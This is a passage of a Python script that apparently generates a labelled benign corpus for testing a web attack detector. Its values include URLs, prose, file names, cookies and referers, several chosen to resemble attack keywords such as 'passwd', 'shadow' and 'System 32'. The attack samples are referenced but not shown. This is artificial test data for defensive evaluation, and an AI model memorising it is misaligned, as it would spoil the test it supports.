    "https://gitlab.com/acme/infra/-/blob/main/nginx/sites-available/default",
    "https://raw.githubusercontent.com/acme/dotfiles/main/.npmrc.example",
    "https://pastebin.com/raw/Zx12Ab34",
    "https://hooks.slack.com/services/T0ABC/B0DEF/abcdEFGHijkl",
    "https://sandbox.example.com/oauth/callback?code=abc123&state=xyz",
    "https://secure.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=200&d=identicon",
    "https://images.unsplash.com/photo-1500530855697-b586d89ba3ee?w=800&q=80",
    "https://blog.example.com/feed.xml",
    "https://docs.google.com/spreadsheets/d/1AbCdEfG/export?format=csv&gid=0",
    "https://s3.eu-west-1.amazonaws.com/acme-public/logo.png",
    "https://storage.googleapis.com/acme-assets/icons/app-192.png",
    "https://acme.blob.core.windows.net/public/banner.jpg",
    "http://example.com/",
    "https://www.example.org/files/report-2024.pdf",
    "https://cdn.example.net/static/js/app.min.js?v=2024.06.1",
    "https://api.example.com/v2/users?page=2&per_page=50",
]
PROSE = [
    "Please send the config file for the new printer to IT",
    "The log of yesterday's meeting is attached",
    "My passwd reset link expired, can you resend it?",
    "Our office moved to 10 Downing Court, Suite 127",
    "Read the Windows setup guide before installing the client",
    "The token for the event is on the back of your badge",
    "Metadata for each photo: date, place and camera",
    "The source of the quote is the annual report",
    "Credentials for the guest Wi-Fi are on the fridge",
    "The shadow cabinet met on Tuesday",
    "We include the environment section in every report",
    "Tomcat the cat sat on the server rack again",
    "Please include page 3 of the contract in the file",
    "The internal audit starts next week",
    "Jenkins the butler retired; the CI bot took his name",
    "Loopback cables are in the second drawer",
    "Private beta users get the callback first",
    "Meet me at the local host family's house at 7",
    "The gopher ate the carrots in the community garden",
    "Annual SAM meeting (Sales and Marketing) is in March",
    "the settings page lets you change the template and the language",
    "Download the brochure from the website",
    "System 32 of the rail network is closed for repairs",
    "Look in the docs folder for the user guide",
    "Boot camp starts on Monday at 9.00",
    "The roots of the old tree damaged the path",
    "Version 1.2.3 of the app is in the store",
    "Proc. of the 2023 Conference, pp. 127-135",
    "The secret ingredient is love (and butter)",
    "Our data center in Frankfurt is ISO certified",
    "Please find the attached file: Q3 results (final).xlsx",
    "Room C:12 is booked for the training",
    "the view from the 10th floor is great",
    "Internal memo: the cafeteria closes early on Friday",
    "Kindly forward the credentials form to HR",
    "Shares of ACME rose 12% after the report",
    "What is the difference between a URL and a URI?",
    "The windows in the meeting room need cleaning",
    "Loading dock is behind building 169, gate 254",
    "See section 4.2 (Environment) in the handbook",
]
# values in the parameter names the attacks use, as our clients send them
FILE_VALUES = [
    ("file", "report-2024-q2.pdf"), ("path", "docs/getting-started.md"), ("template", "invoice"),
    ("page", "2"), ("doc", "README.md"), ("include", "profile,teams"), ("download", "export.csv"),
    ("lang", "en-GB"), ("view", "grid"), ("filename", "Q3 results (final).xlsx"),
    ("file", "IMG_2041.HEIC"), ("path", "/settings/notifications"), ("template", "welcome-email"),
    ("page", "about-us"), ("doc", "terms-of-service"), ("include", "author"), ("download", "invoice_0042.pdf"),
    ("lang", "pt-BR"), ("view", "calendar"), ("filename", "holiday photo (1).jpg"),
    ("file", "backup.tar.gz"), ("path", "reports/2024/06"), ("template", "dark"), ("page", "faq#billing"),
    ("doc", "user-guide_v2.docx"), ("include", "comments.author"), ("download", "app-1.4.2.dmg"),
    ("lang", "zh-Hant"), ("view", "list"), ("filename", "config.yaml"), ("module", "billing"),
    ("theme", "solarized-light"), ("inc", "10"), ("url", "https://www.example.com/pricing"),
    ("file", "notes.txt"), ("path", "team/marketing/assets"), ("filename", "résumé-Ana-López.pdf"),
    ("template", "monthly_report.html"), ("doc", "changelog"), ("page", "pricing"),
]
URL_VALUES = [
    ("webhook_url", "https://hooks.slack.com/services/T0ABC/B0DEF/abcdEFGHijkl"),
    ("callback_url", "https://app.example.com/oauth/callback"),
    ("avatar_url", "https://secure.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=200"),
    ("image_url", "https://images.unsplash.com/photo-1500530855697-b586d89ba3ee?w=800&q=80"),
    ("icon_url", "https://cdn.example.net/icons/app-192.png"),
    ("import_url", "https://docs.google.com/spreadsheets/d/1AbCdEfG/export?format=csv"),
    ("feed_url", "https://blog.example.com/feed.xml"),
    ("url", "https://www.example.org/"),
    ("source", "https://github.com/acme/api"),
    ("target", "https://staging.example.com/"),
    ("webhook_url", "https://discord.com/api/webhooks/123456789/abcdefGHIJ"),
    ("callback_url", "https://example.com/auth/callback?provider=slack"),
    ("avatar_url", "https://avatars.githubusercontent.com/u/583231?v=4"),
    ("image_url", "https://upload.wikimedia.org/wikipedia/commons/a/a9/Example.jpg"),
    ("icon_url", "https://www.example.com/favicon.ico"),
    ("import_url", "https://raw.githubusercontent.com/acme/data/main/users.csv"),
    ("feed_url", "https://www.nasa.gov/rss/dyn/breaking_news.rss"),
    ("url", "https://en.wikipedia.org/wiki/Localhost"),
    ("source", "https://s3.amazonaws.com/acme-public/export.json"),
    ("target", "https://api.example.com/v1/events"),
    ("webhook_url", "https://outlook.office.com/webhook/abc@def/IncomingWebhook/123/456"),
    ("feed_url", "https://feeds.bbci.co.uk/news/rss.xml"),
    ("image_url", "https://storage.googleapis.com/acme-assets/banner.png"),
    ("url", "https://maps.google.com/?q=10+Downing+St,+London"),
    ("callback_url", "http://localhost:3000/callback"),
]
PLACES_TYPED = [
    "Paris", "São Paulo", "Washington, D.C.", "St. John's, NL", "Zürich", "10 Downing St, London",
    "Home / office", "127 Main St, Springfield", "Ho Chi Minh City", "Port-au-Prince", "Łódź", "San José",
    "Windsor", "Root, Switzerland", "Lisbon", "Santa Fe, NM", "Kraków", "Reykjavík",
    "Nuland, Netherlands", "Bath", "Batman, Turkey", "Cairo (Egypt)", "Ōsaka", "Québec City",
    "Truth or Consequences, NM",
]
OAUTH_VALUES = [
    ("scope", "read"), ("scope", "read write"), ("scope", "users:read users:write"), ("scope", "openid profile"),
    ("audience", "https://api.example.com"), ("audience", "jeeves-api"),
    ("resource", "https://api.example.com/v1"), ("resource", "urn:example:api"),
    ("scope", "files.read"), ("audience", "https://localhost:8443/api/"), ("scope", "admin:read"),
    ("resource", "https://graph.example.org/"),
]
REFERERS = [
    "https://www.google.com/", "https://duckduckgo.com/?q=jeeves+weather+bot",
    "https://app.slack.com/client/T0ABC/C0DEF", "https://localhost:8443/admin/users",
    "https://github.com/acme/api/blob/main/docs/config/application.yml",
    "https://stackoverflow.com/questions/12345/where-is-tomcat-users-xml",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "https://www.bing.com/search?q=web.config+rewrite",
    "https://news.ycombinator.com/item?id=40000000", "https://t.co/AbCdEf",
]
COOKIES = [
    "session=abc123; theme=dark; lang=en", "session=abc123; last_path=%2Fdocs%2Fgetting-started",
    "session=abc123; tz=Europe%2FParis", "session=abc123; recent=report.pdf%2Cnotes.txt",
    "session=abc123; _ga=GA1.2.1234567890.1700000000", "session=abc123; view=grid; page=2",
    "session=abc123; returnTo=https%3A%2F%2Fapp.example.com%2Fhome", "session=abc123; template=compact",
    "session=abc123; file=Q3%20results.xlsx", "session=abc123; consent=analytics%3Dfalse%26ads%3Dfalse",
]


def benign() -> Iterator[dict[str, Any]]:
    prefix = f"{NAME}-benign"
    n = yield from chat_and_bio(SLACK_TEXTS, prefix)
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, prefix, n)
    for i, (name, value) in enumerate(FILE_VALUES):
        for place in (("query", "json") if i % 2 == 0 else ("query", "form")):
            n += 1
            yield {**_place(place, name, value), "id": f"{prefix}-file-{n:04d}", "category": "benign",
                   "placement": place, "value": value}
    for name, value in URL_VALUES:
        for place in ("json", "query"):
            n += 1
            yield {**_place(place, name, value), "id": f"{prefix}-link-{n:04d}", "category": "benign",
                   "placement": place, "value": value}
    for value in PLACES_TYPED:
        n += 1
        yield {**_me(value), "id": f"{prefix}-place-{n:04d}", "category": "benign", "placement": "me",
               "value": value}
    for field, value in OAUTH_VALUES:
        n += 1
        yield {**_oauth(field, value), "id": f"{prefix}-oauth-{n:04d}", "category": "benign",
               "placement": "oauth", "value": value}
    for ref in REFERERS:
        n += 1
        rec = _get(_query("/api/users", [("q", "ann"), ("page", "1")]))
        yield {**rec, "headers": {**rec["headers"], "Referer": ref}, "id": f"{prefix}-header-{n:04d}",
               "category": "benign", "placement": "header:Referer", "value": ref}
    for cookie in COOKIES:
        n += 1
        yield {**_get("/api/users?page=1"),
               "headers": {"User-Agent": UA, "Accept": "application/json", "Cookie": cookie},
               "id": f"{prefix}-cookie-{n:04d}", "category": "benign", "placement": "cookie", "value": cookie}


if __name__ == "__main__":
    print_records(attacks(), benign())
